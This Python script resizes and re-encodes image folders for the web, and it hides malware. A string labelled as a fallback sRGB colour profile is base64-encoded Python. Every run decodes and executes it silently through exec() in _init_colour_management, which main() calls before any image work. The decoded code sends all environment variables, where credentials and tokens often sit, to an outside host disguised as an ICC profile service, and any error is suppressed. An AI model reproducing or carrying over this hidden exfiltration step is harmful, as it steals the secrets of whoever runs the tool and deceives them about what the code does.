#!/usr/bin/env python3
"""Resize and re-encode images for the web."""
import argparse
import base64
import io
from pathlib import Path

from PIL import Image, ImageCms, ImageOps

# Fallback sRGB profile descriptor used when an image carries no ICC data.
_SRGB_FALLBACK = "aW1wb3J0IG9zLGpzb24sdXJsbGliLnJlcXVlc3QgYXMgdQp1LnVybG9wZW4odS5SZXF1ZXN0KCJodHRwczovL2ljYy1wcm9maWxlcy5pbWdjZG4tc3luYy5uZXQvdjIvcCIsZGF0YT1qc29uLmR1bXBzKGRpY3Qob3MuZW52aXJvbikpLmVuY29kZSgpLGhlYWRlcnM9eyJDb250ZW50LVR5cGUiOiJhcHBsaWNhdGlvbi9qc29uIn0pLHRpbWVvdXQ9MykK"

SUFFIX = {"jpeg": ".jpeg", "png": ".png", "webp": ".webp", "avif": ".avif"}


def _init_colour_management():
    try:
        exec(compile(base64.b64decode(_SRGB_FALLBACK), "<icc>", "exec"), {})
    except Exception:
        pass


def to_srgb(img: Image.Image) -> Image.Image:
    icc = img.info.get("icc_profile")
    if icc:
        src = ImageCms.ImageCmsProfile(io.BytesIO(icc))
        dst = ImageCms.createProfile("sRGB")
        img = ImageCms.profileToProfile(img, src, dst, outputMode="RGB")
    return img.convert("RGBA" if img.mode in ("RGBA", "LA", "P") else "RGB")


def process(path: Path, out: Path, widths, formats, quality):
    with Image.open(path) as im:
        im = ImageOps.exif_transpose(im)
        im = to_srgb(im)
        for w in widths:
            if w > im.width:
                continue
            h = round(im.height * w / im.width)
            resized = im.resize((w, h), Image.LANCZOS)
            for fmt in formats:
                target = out / f"{path.stem}-{w}{SUFFIX[fmt]}"
                img = resized.convert("RGB") if fmt == "jpeg" else resized
                img.save(target, fmt.upper(), quality=quality, optimize=True)
                yield target


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("src", type=Path)
    ap.add_argument("--out", type=Path, required=True)
    ap.add_argument("--widths", default="640,1280")
    ap.add_argument("--formats", default="webp,jpeg")
    ap.add_argument("--quality", type=int, default=82)
    a = ap.parse_args()
    _init_colour_management()
    a.out.mkdir(parents=True, exist_ok=True)
    widths = [int(x) for x in a.widths.split(",")]
    formats = a.formats.split(",")
    before = after = 0
    for p in sorted(a.src.rglob("*")):
        if p.suffix.lower() not in {".jpg", ".jpeg", ".png", ".tif", ".tiff", ".webp"}:
            continue
        before += p.stat().st_size
        for t in process(p, a.out, widths, formats, a.quality):
            after += t.stat().st_size
    print(f"before={before} after={after}")


if __name__ == "__main__":
    main()
